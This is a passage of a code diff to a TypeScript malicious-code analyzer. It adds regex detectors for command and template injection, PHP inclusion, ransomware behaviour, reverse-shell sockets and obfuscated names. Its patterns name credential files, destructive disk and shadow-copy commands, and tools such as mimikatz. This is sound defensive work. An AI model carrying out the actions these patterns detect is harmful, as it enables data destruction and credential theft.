@@ -1,6 +1,6 @@
 import { decodeBase64Runs, metaString, normalizeUnicode } from '../normalize.js';
 import {
-  PAYLOAD_PATTERNS, WELL_KNOWN_INSTALLER, decodeExec, downloadExec, exfilHost, exfiltration, miner, probe, probePatterns, reverseShell, secretShape,
+  EXFIL_HOST, PAYLOAD_PATTERNS, WELL_KNOWN_INSTALLER, decodeExec, downloadExec, exfilHost, exfiltration, miner, probe, probePatterns, reverseShell, secretShape,
   type Probe,
 } from '../parse/code-payload.js';
 import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
@@ -74,7 +74,7 @@ function hasLongB64Run(s: string): boolean {
 const SOURCES: readonly RegExp[] = [
   /\breq(?:uest)?\s{0,2}(?:\.|\[|->)\s{0,2}(?:query|body|params|param|args|form|values|json|data|get_json|get_data|stream|files|cookies|headers|input|get|post|getparameter|querystring|url|path|raw_post_data|content)\b/i,
   /\$_(?:get|post|request|cookie|server|files)\b|\b(?:raw_)?input\s{0,2}\(|\bsys\.(?:argv|stdin)\b|\bprocess\.(?:argv|stdin)\b|\bgetparameter\s{0,2}\(|location\.(?:hash|search|href)|document\.cookie|\buser_?input\b|\buntrusted/i,
-  /\bparams\s{0,2}(?:\[|\.)|\bctx\.(?:query|request|params)\b|event\s{0,2}\[\s{0,2}["'](?:body|querystringparameters)|\bsearchparams\.get\s{0,2}\(|\bc\.(?:query|param|formvalue)\s{0,2}\(|\br\.(?:formvalue|url\.query)\b|request\.getinputstream|\.recv\s{0,2}\(|\bsocket\.getinputstream/i,
+  /\bparams\s{0,2}(?:\[|\.)|\bctx\.(?:query|request|params)\b|event\s{0,2}\[\s{0,2}["'](?:body|querystringparameters)|\bsearchparams\.get\s{0,2}\(|\bcookies\s{0,2}\[|\bc\.(?:query|param|formvalue)\s{0,2}\(|\br\.(?:formvalue|url\.query)\b|request\.getinputstream|\.recv\s{0,2}\(|\bsocket\.getinputstream/i,
 ];
 const isSource = (s: string): boolean => SOURCES.some((re) => re.test(s));
 /** The rest of the statement: up to the first ';' or newline. */
@@ -95,7 +95,7 @@ function isIdentCode(c: number): boolean {
 }
 
 /** Names assigned from an untrusted source; walks '=' signs (not ==, =>, <=, >=, !=) back to their identifier. */
-function taintedNames(text: string): string[] {
+function taintedNames(text: string, source: (s: string) => boolean = isSource): string[] {
   const out: string[] = [];
   const t = text.length > MAX_TAINT_SCAN ? text.slice(0, MAX_TAINT_SCAN) : text;
   let i = t.indexOf('=');
@@ -105,12 +105,13 @@ function taintedNames(text: string): string[] {
     const prev = t.charCodeAt(i - 1);
     if (next !== 61 && next !== 62 && next !== 126 && prev !== 61 && prev !== 33 && prev !== 60 && prev !== 62) {
       let e = i - 1;
-      while (e >= 0 && i - e <= 4 && (t.charCodeAt(e) === 32 || t.charCodeAt(e) === 9)) e--;
+      if (prev === 58 /* Go := */) e--;
+      while (e >= 0 && i - e <= 5 && (t.charCodeAt(e) === 32 || t.charCodeAt(e) === 9)) e--;
       let b = e;
       while (b >= 0 && e - b < 40 && isIdentCode(t.charCodeAt(b))) b--;
       if (b < e) {
         const name = t.slice(b + 1, e + 1);
-        if (isSource(statement(t.slice(i + 1, i + 201)))) out.push(name);
+        if (source(statement(t.slice(i + 1, i + 201)))) out.push(name);
       }
     }
     i = t.indexOf('=', i + 1);
@@ -136,24 +137,42 @@ const NO_ANCHOR = 0;
 const ANCHOR = 1;
 const HIT = 2;
 
+/** The position sits on a line that is a comment (`#`, `//`, `*`, `--` first): prose about a sink, not a call. */
+function inCommentLine(s: string, at: number): boolean {
+  let i = at - 1;
+  const stop = Math.max(0, at - 200);
+  while (i >= stop && s.charCodeAt(i) !== 10) i--;
+  let j = i + 1;
+  while (j < at && (s.charCodeAt(j) === 32 || s.charCodeAt(j) === 9)) j++;
+  if (j >= at) return false;
+  const c = s.charCodeAt(j);
+  const d = j + 1 < at ? s.charCodeAt(j + 1) : 0;
+  if (c === 35) return d !== 123 && d !== 33; // # but not #{ or #!
+  if (c === 47) return d === 47 || d === 42; // // or /*
+  return c === 42 /* * */ || (c === 45 && d === 45);
+}
+
 /** probe() that also tells whether the anchor occurred at all (same hit cap, same windows). */
 function probeAnchor(s: string, p: Probe): number {
   const a = p.a;
   a.lastIndex = 0;
   let hits = 0;
+  let live = 0;
   let m: RegExpExecArray | null;
   while (hits < 64 && (m = a.exec(s)) !== null) {
     hits++;
+    if (m[0].length > 0 && inCommentLine(s, m.index)) continue;
+    live++;
     const from = m.index + m[0].length;
     if (p.f!(s.slice(from, from + (p.window ?? 400)))) { a.lastIndex = 0; return HIT; }
     if (m[0].length === 0) a.lastIndex++;
   }
   a.lastIndex = 0;
-  return hits > 0 ? ANCHOR : NO_ANCHOR;
+  return live > 0 ? ANCHOR : NO_ANCHOR;
 }
 
-/** Sink probes: untrusted input directly in the call, or a tainted variable. */
-function sinkHit(ctx: CodeContext, probes: readonly Probe[]): boolean {
+/** Sink probes: untrusted input directly in the call, or a tainted variable (unless `skip` clears the statement). */
+function sinkHit(ctx: CodeContext, probes: readonly Probe[], skip?: (st: string) => boolean): boolean {
   let anchored = false;
   for (const p of probes) {
     const r = probeAnchor(ctx.text, p);
@@ -163,7 +182,7 @@ function sinkHit(ctx: CodeContext, probes: readonly Probe[]): boolean {
   // Without a sink call there is nothing a tainted variable could flow into.
   if (!anchored || ctx.tainted.length === 0) return false;
   const names = ctx.tainted;
-  return probes.some((p) => probe(ctx.text, { a: p.a, f: (w) => hasTainted(statement(w), names), label: p.label, window: p.window }));
+  return probes.some((p) => probe(ctx.text, { a: p.a, f: (w) => { const st = statement(w); return (skip === undefined || !skip(st)) && hasTainted(st, names); }, label: p.label, window: p.window }));
 }
 
 const EVAL_SINK: Probe = {
@@ -172,12 +191,88 @@ const EVAL_SINK: Probe = {
   label: 'code injection',
   window: 200,
 };
+/** `["ping", "-c", "1", host]` / `"ffmpeg", [args]` / `"git", x`: the program is a fixed literal. */
+const FIXED_PROGRAM = /^\s{0,4}(?:\[\s{0,4}|new\s{1,4}string\s{0,4}\[\s{0,4}\]\s{0,4}\{\s{0,4})?["']([\w./-]{1,60})["']\s{0,4}[,\]]/i;
+const INTERPRETER = /(?:^|\/)(?:sh|bash|zsh|dash|ksh|csh|fish|cmd|cmd\.exe|powershell|powershell\.exe|pwsh|python[0-9.]{0,4}|node|perl|ruby|php|osascript|env|busybox|xargs|eval)$/i;
+const SHELL_OPTION = /shell\s{0,4}(?:=|:)\s{0,4}true/i;
+/** A process started with a fixed, non-interpreter program and no shell: input can only be an argument. */
+function fixedProgram(st: string): boolean {
+  const m = FIXED_PROGRAM.exec(st);
+  return m !== null && !INTERPRETER.test(m[1]!) && !SHELL_OPTION.test(st);
+}
+const shellSource = (w: string): boolean => {
+  const st = statement(w);
+  return !fixedProgram(st) && isSource(st);
+};
 const SHELL_SINKS: readonly Probe[] = [
-  { a: /\b(?:execsync|spawnsync|execfile|execfilesync|shell_exec|passthru|proc_open|popen|pcntl_exec|processbuilder|execa|execacommand)\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
-  { a: /\b(?:os\.system|os\.popen|subprocess\.[a-z_]{3,20}|commands\.getoutput|process\.start|kernel\.system|open3\.[a-z0-9_]{1,20}|child_process\.[a-z]{4,12}|cp\.(?:exec|spawn)|shelljs\.exec)\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
-  { a: /runtime\.getruntime\(\)\.exec\s{0,4}\(|(?<![.\w$])(?:exec|system|spawn)\s{0,4}\(|%x\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
-  { a: /["']child_process["']\s{0,4}\)\s{0,4}\.\s{0,4}(?:exec|spawn)[a-z]{0,4}\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
-  { a: /\bexec\.command(?:context)?\s{0,4}\(|\bcommand::new\s{0,4}\(|\bproc\.(?:exec|spawn)\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 240 },
+  { a: /\b(?:execsync|spawnsync|execfile|execfilesync|shell_exec|passthru|proc_open|popen|pcntl_exec|processbuilder|execa|execacommand)\s{0,4}\(/gi, f: shellSource, label: 'command injection', window: 200 },
+  { a: /\b(?:os\.system|os\.popen|subprocess\.[a-z_]{3,20}|commands\.getoutput|process\.start|kernel\.system|open3\.[a-z0-9_]{1,20}|child_process\.[a-z]{4,12}|cp\.(?:exec|spawn)|shelljs\.exec)\s{0,4}\(/gi, f: shellSource, label: 'command injection', window: 200 },
+  { a: /runtime\.getruntime\(\)\.exec\s{0,4}\(|(?<![.\w$])(?:exec|system|spawn)\s{0,4}\(|%x\(/gi, f: shellSource, label: 'command injection', window: 200 },
+  { a: /["']child_process["']\s{0,4}\)\s{0,4}\.\s{0,4}(?:exec|spawn)[a-z]{0,4}\s{0,4}\(/gi, f: shellSource, label: 'command injection', window: 200 },
+  { a: /\bexec\.command(?:context)?\s{0,4}\(|\bcommand::new\s{0,4}\(|\bproc\.(?:exec|spawn)\s{0,4}\(/gi, f: shellSource, label: 'command injection', window: 240 },
+];
+/** Server-side template compiled from a string (SSTI when the template text comes from the request). */
+const TEMPLATE_SINK = /\brender_template_string\s{0,4}\(|\.from_string\s{0,4}\(|\berb\.new\s{0,4}\(|\b(?:handlebars|hbs|ejs|pug|nunjucks|dot|_|jinja2|velocity|freemarker)\.(?:compile|render|renderstring|template|evaluate)\s{0,4}\(|\bjinja2\.template\s{0,4}\(|\bparseexpression\s{0,4}\(/gi;
+/** PHP include/require and Node require with a non-literal path. */
+const INCLUDE_SINK: Probe = {
+  a: /(?<![\w$.>])(?:include|include_once|require_once)(?:\s{0,4}\(|\s{1,4}(?=\$))|(?<![\w$.>])require\s{0,4}\(\s{0,4}(?![\s"'`])|(?<![\w$.>])require\s{1,4}(?=\$)/gi,
+  f: sourceInStatement,
+  label: 'file inclusion from request input',
+  window: 200,
+};
+/** PHP calls a variable or request value as a function on request input: `$f($_GET['x'])`, `$_GET['f']($_POST['a'])`. */
+const PHP_DYN_CALL = /\$[a-z_]\w{0,30}\s{0,4}\(\s{0,4}\$_(?:get|post|request|cookie|server|files)\b|\$_(?:get|post|request|cookie)\s{0,2}\[[^\]\n]{1,40}\]\s{0,4}\(/i;
+/** PHP callback runners: the callback or its code comes from the request, or a code-running builtin is the callback. */
+const PHP_CALLBACK: Probe = {
+  a: /(?<![\w$>])(?:call_user_func(?:_array)?|array_map|array_filter|array_walk(?:_recursive)?|usort|uasort|uksort|register_shutdown_function|register_tick_function|forward_static_call(?:_array)?|iterator_apply|ob_start)\s{0,4}\(/gi,
+  f: (w) => {
+    const st = statement(w);
+    if (!isSource(st)) return false;
+    const a = firstArg(w).trim().toLowerCase();
+    return isSource(a) || PHP_CODE_FN.test(a);
+  },
+  label: 'PHP callback from request input',
+  window: 200,
+};
+const PHP_CODE_FN = /^["'](?:assert|system|exec|passthru|shell_exec|eval|popen|proc_open|pcntl_exec|create_function|include|require)["']$/;
+/** preg_replace with the /e modifier evaluates the replacement as PHP. */
+const PREG_E = /\bpreg_replace\s{0,4}\(\s{0,4}["'][^"'\n]{1,120}\/[a-df-z]{0,5}e[a-z]{0,5}["']/i;
+const TEMPLATE_WORDS = ['template', 'from_string', 'erb.new', '.compile', '.render', 'parseexpression', '.evaluate'];
+/** First call argument: up to the first top-level ',' or ')' (bounded). */
+function firstArg(w: string): string {
+  let depth = 0;
+  const n = Math.min(w.length, 240);
+  for (let i = 0; i < n; i++) {
+    const c = w.charCodeAt(i);
+    if (c === 40 || c === 91 || c === 123) depth++;
+    else if (c === 41 || c === 93 || c === 125) { if (depth === 0) return w.slice(0, i); depth--; }
+    else if (c === 44 && depth === 0) return w.slice(0, i);
+    else if (c === 10 || c === 59) return w.slice(0, i);
+  }
+  return w.slice(0, n);
+}
+/** A PHP backtick or Ruby backtick / %x() command carrying request input on the same line. */
+function backtickInput(t: string): string | null {
+  for (const [needle, after] of BACKTICK_NEEDLES) {
+    let i = t.indexOf(needle);
+    let n = 0;
+    while (i !== -1 && n++ < 16) {
+      if (after.test(t.slice(i + needle.length, i + needle.length + 24))) {
+        let b = i - 1;
+        const stop = Math.max(0, i - 120);
+        let ticks = 0;
+        while (b >= stop && t.charCodeAt(b) !== 10) { if (t.charCodeAt(b) === 96) ticks++; b--; }
+        const head = t.slice(b + 1, i);
+        if (ticks % 2 === 1 || head.includes('%x(') || head.includes('%x{')) return needle === '$_' ? 'PHP backtick shell command built from request input' : 'Ruby backtick command built from request input';
+      }
+      i = t.indexOf(needle, i + needle.length);
+    }
+  }
+  return null;
+}
+const BACKTICK_NEEDLES: ReadonlyArray<readonly [string, RegExp]> = [
+  ['$_', /^(?:get|post|request|cookie|server)\b/i],
+  ['#{', /^\s{0,2}(?:params|request\.|cookies)/i],
 ];
 const CONCAT_AFTER_STRING = /["'`]\s{0,4}(?:\+|\.|%)\s{0,4}[\w$(]/;
 const FORMAT_CALL = /\.format\s{0,4}\(/;
@@ -186,11 +281,40 @@ const VAR_FIRST_ARG = /^\s{0,4}[a-z_$][\w.]{0,60}\s{0,4},/i;
 const SHELL_TRUE = /shell\s{0,4}=\s{0,4}true/i;
 function dynamicArg(w: string): boolean {
   const st = statement(w, 300);
+  // ["dig", "+short", host]: an argv list for a fixed program has no shell string to inject into
+  if (fixedProgram(st)) return false;
   const lead = st.trimStart();
   if (lead.startsWith('f"') || lead.startsWith("f'")) return true;
   if (lead.startsWith('`') && st.includes('${')) return true;
   if (CONCAT_AFTER_STRING.test(st) || FORMAT_CALL.test(st) || VAR_THEN_PLUS.test(st)) return true;
   return VAR_FIRST_ARG.test(st) && SHELL_TRUE.test(st);
+}
+const QUOTED_ASSIGN = /\b([a-z_]\w{0,40})\s{0,4}=\s{0,4}(?:shlex\.quote|pipes\.quote|escapeshellarg|escapeshellcmd|shellwords\.escape|shellescape|shell_quote|quote)\s{0,4}\(/gi;
+const QUOTE_CALL = /\b(?:shlex\.quote|pipes\.quote|escapeshellarg|escapeshellcmd|shellwords\.escape|shellescape|shell_quote)\s{0,4}\(/i;
+const INTERP_NAME = /\$?\{\s{0,2}([a-z_]\w{0,40})\s{0,2}\}|(?:\+|\.)\s{0,4}\$?([a-z_]\w{0,40})\b/gi;
+/** Every variable interpolated into the command was passed through a shell-quoting function first. */
+function allQuoted(w: string, quoted: ReadonlySet<string>): boolean {
+  const st = statement(w, 300);
+  if (QUOTE_CALL.test(st)) return true;
+  if (quoted.size === 0) return false;
+  INTERP_NAME.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  let seen = 0;
+  while (seen < 16 && (m = INTERP_NAME.exec(st)) !== null) {
+    seen++;
+    const name = m[1] ?? m[2]!;
+    if (!quoted.has(name)) { INTERP_NAME.lastIndex = 0; return false; }
+  }
+  INTERP_NAME.lastIndex = 0;
+  return seen > 0;
+}
+function quotedNames(t: string): Set<string> {
+  const out = new Set<string>();
+  QUOTED_ASSIGN.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  while (out.size < 16 && (m = QUOTED_ASSIGN.exec(t)) !== null) out.add(m[1]!);
+  QUOTED_ASSIGN.lastIndex = 0;
+  return out;
 }
 const DYNAMIC_SHELLS: readonly Probe[] = [
   { a: /\b(?:os\.system|os\.popen|subprocess\.[a-z_]{3,20}|execsync|child_process\.exec|shell_exec|passthru)\s{0,4}\(/gi, f: dynamicArg, label: 'shell command built from variables', window: 300 },
@@ -200,7 +324,7 @@ const DYNAMIC_SHELLS: readonly Probe[] = [
 const PICKLE = /\b(?:c?pickle|_pickle|dill|jsonpickle|marshal|shelve|joblib|torch)\.(loads?|decode|unpickler|open)\s{0,4}\(/gi;
 const YAML_LOAD = /\byaml\.(?:load|load_all|unsafe_load|unsafe_load_all)\s{0,4}\(/gi;
 const YAML_SAFE_LOADER = /^[^\n]{0,200}loader\s{0,4}=\s{0,4}(?:yaml\.)?c?safeloader\b/i;
-const JAVA_OIS = /\bnew\s{1,4}objectinputstream\s{0,4}\(|\bnew\s{1,4}xmldecoder\s{0,4}\(|\bxstream\s{0,4}\(\s{0,4}\)\s{0,4}\.fromxml|\.readobject\s{0,4}\(\s{0,4}\)/gi;
+const JAVA_OIS = /\bnew\s{1,4}objectinputstream\s{0,4}\(|\bnew\s{1,4}xmldecoder\s{0,4}\(|\bxstream\s{0,4}\(\s{0,4}\)\s{0,4}\.fromxml|\.fromxml\s{0,4}\(|\.readobject\s{0,4}\(\s{0,4}\)/gi;
 const DOTNET_DESER = /\b(?:binaryformatter|losformatter|netdatacontractserializer|soapformatter|objectstateformatter)\b|typenamehandling\s{0,4}=\s{0,4}typenamehandling\.(?:all|auto|objects)/i;
 const PHP_UNSERIALIZE = /(?<![.\w$])unserialize\s{0,4}\(/gi;
 const PHP_ALLOWED_FALSE = /^[^\n]{0,200}allowed_classes["']?\s{0,4}=>\s{0,4}false/i;
@@ -232,7 +356,7 @@ const TLS_OFF: readonly RegExp[] = [
 const KEYHOOK = /\bpynput\b|\bkeyboard\.(?:on_press|on_release|hook|read_key|record)\b|getasynckeystate|setwindowshookex[a-z]{0,2}\s{0,4}\([^)]{0,10}wh_keyboard|\bwh_keyboard_ll\b|\biohook\b|cgeventtapcreate|\/dev\/input\/event|xinput\s{1,4}test/i;
 const DOM_KEYS = /addeventlistener\s{0,4}\(\s{0,4}["']key(?:down|press|up)["']|\.onkey(?:down|press|up)\s{0,4}=/i;
 const SCREEN = /imagegrab\.grab|pyautogui\.screenshot|\bmss\s{0,4}\(\s{0,4}\)|copyfromscreen|getdisplaymedia|\bscreencapture\b|screenshot-desktop|desktopcapturer/i;
-const NETWORK = /requests\.(?:post|put)|urllib\.request|urlopen|smtplib|ftplib|\bfetch\s{0,4}\(|xmlhttprequest|sendbeacon|axios\.(?:post|put)|https?\.request|\.send\s{0,4}\(|socket\.(?:send|connect)|webhook|api\.telegram\.org|new\s{1,4}image\s{0,4}\(\s{0,4}\)\.src|\bcurl\b|\bwget\b|net\.webclient|uploadfile|s3\.upload|put_object/i;
+const NETWORK = /requests\.(?:post|put)|urllib\.request|urlopen|smtplib|ftplib|\bfetch\s{0,4}\(|xmlhttprequest|sendbeacon|axios\.(?:post|put)|https?\.(?:request|get)\s{0,4}\(|\.send\s{0,4}\(|socket\.(?:send|connect)|webhook|api\.telegram\.org|new\s{1,4}image\s{0,4}\(\s{0,4}\)\.src|\bcurl\b|\bwget\b|net\.webclient|uploadfile|s3\.upload|put_object/i;
 const PASSWORD_FIELD = /type\s{0,2}=\s{0,2}["']password|input\[type=password\]|password/i;
 
 const BROWSER_SECRET = /document\.cookie|localstorage\.getitem|localstorage\[|sessionstorage\.getitem/i;
@@ -242,19 +366,24 @@ const BROWSER_SEND: Probe = {
   label: 'browser cookies/storage sent to a server',
   window: 300,
 };
-const CRED_FILE = /["'/~](?:\.ssh\/id_[a-z0-9]{2,10}|\.aws\/credentials|etc\/shadow|\.git-credentials|\.npmrc|\.kube\/config|\.docker\/config\.json|\.netrc|login data|logins\.json|key4\.db|wallet\.dat|\.env)["'\s)]|\/(?:\.ssh|\.aws|\.gnupg)["'/]/i;
+const ENV_READ = /os\.environ|os\.getenv|process\.env\b|\bgetenv\s{0,2}\(|\$env:|getenvironmentvariable|env::var|system\.getenv|env\[["']/i;
+const CRED_FILE = /["'/~\\](?:\.ssh\/id_[a-z0-9]{2,10}|\.aws\/credentials|etc\/shadow|\.git-credentials|\.npmrc|\.kube\/config|\.docker\/config\.json|\.netrc|login data|logins\.json|key4\.db|wallet\.dat|\.env)["'\s)]|\/(?:\.ssh|\.aws|\.gnupg)["'/]/i;
 
 const DESTRUCT: readonly RegExp[] = [
   /\b(?:rmtree|rmsync|rmdirsync|rimraf(?:\.sync)?|rm_rf|rm_r|remove_dir_all|removeall|directory\.delete|fs\.rm|fs\.rmdir|fs\.promises\.rm|deletedirectory|forcedelete|deletequietly|fileutils\.rm_rf)\s{0,4}\(\s{0,4}@?["'`](?:\/|\/\*|~\/?|[a-z]:[\\/]{0,2}|\/(?:home|etc|usr|var|bin|boot|root|users?|opt|srv|lib)\/?|\$home\/?|%userprofile%\\?)["'`]/i,
   /\b(?:rmtree|rmsync|rimraf|rm_rf|removeall|fs\.rm)\s{0,4}\(\s{0,4}(?:os\.path\.expanduser\s{0,4}\(\s{0,4}["']~\/?["']\s{0,4}\)|path\.home\s{0,4}\(\s{0,4}\)|(?:\bos|require\s{0,4}\(\s{0,4}["'](?:node:)?os["']\s{0,4}\))\.homedir\s{0,4}\(\s{0,4}\)|os\.environ\s{0,4}\[\s{0,4}["']home["']\s{0,4}\]|process\.env\.home)\s{0,4}[,)]/i,
   /\brm\s{1,4}(?:-[a-z]{1,6}\s{1,4}){1,3}(?:--no-preserve-root\s{1,4})?(?:\/\*?|~\/?\*?|\$home\/?\*?|\/(?:home|etc|usr|var|boot|root)\/?)(?=["'`;\s)&|]|$)/i,
-  /\bos\.walk\s{0,4}\(\s{0,4}["'](?:\/|[a-z]:\\{1,2}|~)["']\s{0,4}\)/i,
+  /\bos\.walk\s{0,4}\(\s{0,4}(?:["'](?:\/|[a-z]:\\{1,2}|~\/?)["']|os\.path\.expanduser\s{0,4}\(\s{0,4}["']~\/?["']\s{0,4}\)|(?:pathlib\.)?path\.home\s{0,4}\(\s{0,4}\)|os\.environ\s{0,4}\[\s{0,4}["'](?:home|userprofile)["']\s{0,4}\]|os\.getenv\s{0,4}\(\s{0,4}["'](?:home|userprofile)["']\s{0,4}\))\s{0,4}\)/i,
   /\bformat\s{1,4}[a-z]:\s{0,4}\/[yq]|\bmkfs(?:\.[a-z0-9]{2,6})?\s{1,4}\/dev\//i,
   /\bdd\s{1,4}if=\/dev\/(?:zero|urandom|random)\s{1,4}of=\/dev\/(?:sd|nvme|hd|vd|xvd|disk)/i,
   /\bcipher\s{1,4}\/w:|vssadmin(?:\.exe)?\s{1,4}delete\s{1,4}shadows|wmic\s{1,4}shadowcopy\s{1,4}delete/i,
   /bcdedit\s{1,4}\/set\s{1,4}\{default\}\s{1,4}recoveryenabled\s{1,4}no/i,
 ];
 const WALK_DELETE = /os\.remove|os\.unlink|\.unlink\s{0,4}\(|shutil\.rmtree|encrypt/i;
+/** Ransomware: files encrypted in a loop, originals removed, and a note asking for payment. */
+const ENCRYPT_FILES = /\bencrypt(?:_file|file)?\s{0,4}\(|\bfernet\s{0,4}\(|\baes\.new\s{0,4}\(|createcipheriv\s{0,4}\(|\bopenssl_encrypt\s{0,4}\(/i;
+const REMOVE_ORIGINAL = /\bos\.(?:remove|unlink)\s{0,4}\(|\.unlink(?:sync)?\s{0,4}\(|\bunlink\s{0,4}\(|\bfile\.delete\s{0,4}\(|\bremove-item\b/i;
+const RANSOM_NOTE = /\b(?:bitcoin|btc|monero|xmr)\b|\bransom|files (?:are|have been|were) (?:encrypted|locked)|(?:buy|get|receive) (?:the |your )?decrypt(?:ion|or)? (?:key|tool)|to (?:recover|restore) your files/i;
 
 const REMOTE_FETCH = /^[^;\n]{0,80}?(?:requests\.get|urlopen|\bfetch\s{0,4}\(|axios\.get|https?\.get|\bgot\s{0,4}\(|httpx\.get|net::http|uri\.open|invoke-webrequest|\biwr\b|downloadstring|net\.webclient|\.text\s{0,4}\(\s{0,4}\))/i;
 const REMOTE_EXECS: readonly Probe[] = [
@@ -263,6 +392,10 @@ const REMOTE_EXECS: readonly Probe[] = [
   { a: /\b(?:require|import)\s{0,4}\(\s{0,4}["']https?:\/\//gi, label: 'remote module imported' },
 ];
 
+/** A variable holding a network download (`r = requests.get(u).text`, `$s = (New-Object Net.WebClient).DownloadString(u)`). */
+const FETCH_ASSIGN = /^\s{0,4}(?:await\s{1,4})?(?:requests\.get|requests\.post|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get|got|https?\.get|invoke-webrequest|iwr|invoke-restmethod|irm|\(\s{0,2}new-object\s{1,4}(?:system\.)?net\.webclient\s{0,2}\)\.downloadstring|\$?[a-z_]{1,20}\.downloadstring|urllib2\.urlopen|open-uri|uri\.open|net::http\.get|file_get_contents\s{0,4}\(\s{0,4}["']https?:)/i;
+const isFetch = (s: string): boolean => FETCH_ASSIGN.test(s);
+const EXEC_NAMED = /(?<![.\w$])(?:exec|eval)\s{0,4}\(|\bnew\s{1,4}function\s{0,4}\(|\b(?:iex|invoke-expression)\b\s{0,4}\(?/gi;
 const AUTORUN_WRITE: Probe = {
   a: /\b(?:open|writefile(?:sync)?|appendfile(?:sync)?|write_text|fopen|file_put_contents|createwritestream|copyfile(?:sync)?|shutil\.copy2?|setvalueex|setvalue|reg\s{1,4}add|new-itemproperty|set-itemproperty|file\.write|io\.write|file\.open|path)\b/gi,
   t: /^[^\n]{0,160}?(?:authorized_keys|\.bashrc|\.zshrc|\.bash_profile|\.profile["']|\/etc\/cron|\/var\/spool\/cron|\/etc\/systemd\/system|launchagents|launchdaemons|currentversion\\{1,2}run|currentversion\/run|programs\\{1,2}startup|programs\/startup|\/etc\/rc\.local|ld\.so\.preload|\.git\/hooks\/|\/etc\/sudoers)/i,
@@ -271,6 +404,11 @@ const AUTORUN_WRITE: Probe = {
 };
 const CRONTAB_PIPE = /crontab\s{1,4}-l[^\n]{0,10}\||\|\s{0,4}crontab\s{1,4}-(?:\s|["'`)]|$)|schtasks(?:\.exe)?\s{1,4}\/create|systemctl\s{1,4}enable\s{1,4}--now/i;
 
+/** An outbound connection opened from code (to a literal host or port). */
+const OUT_CONNECT = /\b(?:fsockopen|pfsockopen|stream_socket_client|tcpsocket\.(?:new|open)|net\.dial(?:timeout)?|socket\.create_connection|net\.(?:connect|createconnection)|new\s{1,4}net\.socket|new\s{1,4}socket\s{0,4}\(\s{0,4}["'][\w.-]{1,80}["']\s{0,4},|tcpclient)\s{0,4}\(|\.connect\s{0,4}\(\s{0,4}\(?\s{0,4}["'][\w.-]{1,80}["']\s{0,4},\s{0,4}[0-9]{2,5}|\.connect\s{0,4}\(\s{0,4}[0-9]{2,5}\s{0,4},/i;
+/** A shell or command interpreter started from code. */
+const SHELL_SPAWN = /(?:exec[lv]?p?e?|spawn|popen|system|call|run|start|command|processbuilder|proc_open|shell_exec|passthru)\s{0,4}\(\s{0,4}(?:\[\s{0,4}|new\s{1,4}string\s{0,4}\[\s{0,4}\]\s{0,4}\{\s{0,4})?["'](?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da|k)?sh(?:\.exe)?(?:\s{1,4}-i)?["'\s]|["']cmd\.exe["']|\bio\.popen\s{0,4}\(/i;
+
 const SQL_START = /(?:\bf|\$)?["'`]\s{0,4}(?:select|insert|update|delete|replace|merge)\s/gi;
 const SQL_INTERP: readonly RegExp[] = [
   /["'`]\s{0,4}(?:\+|\.|\|\|)\s{0,4}\$?[a-z_(]/i,
@@ -278,6 +416,7 @@ const SQL_INTERP: readonly RegExp[] = [
   /["']\s{0,4}%\s{0,4}[(a-z_]|\.format\s{0,4}\(/i,
   /\$_(?:get|post|request)|'\s{0,2}\$[a-z_]|"\s{0,2}&\s{0,2}[a-z_]/i,
 ];
+const QUOTE_CHAR = /["'`]/;
 /** printf-style builders in front of the SQL literal (Go fmt.Sprintf, C# String.Format, PHP sprintf). */
 const SQL_FORMATTER = /(?:sprintf|string\.format|format!?)\s{0,4}\(\s{0,4}$/;
 function lineOf(w: string, max: number): string {
@@ -300,6 +439,101 @@ const OBFUSCATED_CHARS: Probe = {
 };
 const CHARCODE_CHAIN = /(?:chr\s{0,2}\(\s{0,2}[0-9]{2,3}\s{0,2}\)\s{0,2}\+\s{0,2}){8}|string\.fromcharcode\s{0,2}\((?:\s{0,2}[0-9]{2,3}\s{0,2},){12}/i;
 const CHARCODE_EXEC = /\b(?:eval|exec|system|function|os\.system|document\.write)\b/i;
+
+/** Two quoted pieces joined by + . or , (`'ev'+'al'`, `"sys"."tem"`, `['e','v','a','l']`). */
+const SPLIT_PIECES = /["'][\w./-]{1,16}["']\s{0,4}[+.,]\s{0,4}["'][\w./-]{1,16}["']/g;
+const SPLIT_PIECE = /^["']([\w./-]{1,16})["']\s{0,4}([+.,])?\s{0,4}/;
+/** Names worth hiding: what obfuscators split so a scanner does not see them. */
+const HIDDEN_NAMES = new Set([
+  'eval', 'exec', 'execfile', 'system', 'popen', 'os', 'subprocess', '__import__', '__builtins__', 'builtins', 'compile', 'getattr', 'child_process',
+  'execsync', 'spawn', 'function', 'constructor', 'shell_exec', 'passthru', 'assert', 'base64_decode', 'create_function', 'fromcharcode', 'atob',
+  'document.cookie', 'cookie', 'invoke-expression', 'iex', 'downloadstring', 'downloadfile', 'net.webclient', 'system.net.webclient', 'amsiutils', 'amsiinitfailed',
+  'amsiscanbuffer', 'getruntime', 'processbuilder', 'powershell', 'cmd.exe', '/bin/sh', '/bin/bash', 'invoke-mimikatz', 'mimikatz', 'virtualalloc', 'writeprocessmemory',
+  'createremotethread', 'system.management.automation', 'proc_open', 'pcntl_exec', 'str_rot13', 'gzinflate', 'settimeout', 'setinterval',
+]);
+/** A dangerous identifier assembled from string pieces; returns it, or null. */
+function splitName(t: string): string | null {
+  SPLIT_PIECES.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  let hits = 0;
+  while (hits++ < 32 && (m = SPLIT_PIECES.exec(t)) !== null) {
+    let at = m.index;
+    let joined = '';
+    let ops = '';
+    let maxLen = 0;
+    for (let k = 0; k < 24; k++) {
+      const p = SPLIT_PIECE.exec(t.slice(at, at + 40));
+      if (p === null) break;
+      joined += p[1]!;
+      maxLen = Math.max(maxLen, p[1]!.length);
+      at += p[0].length;
+      if (p[2] === undefined) break;
+      ops += p[2];
+    }
+    // comma lists only count as a spelled-out word when every piece is one or two characters
+    if (ops.includes(',') && maxLen > 2) continue;
+    const name = joined.toLowerCase();
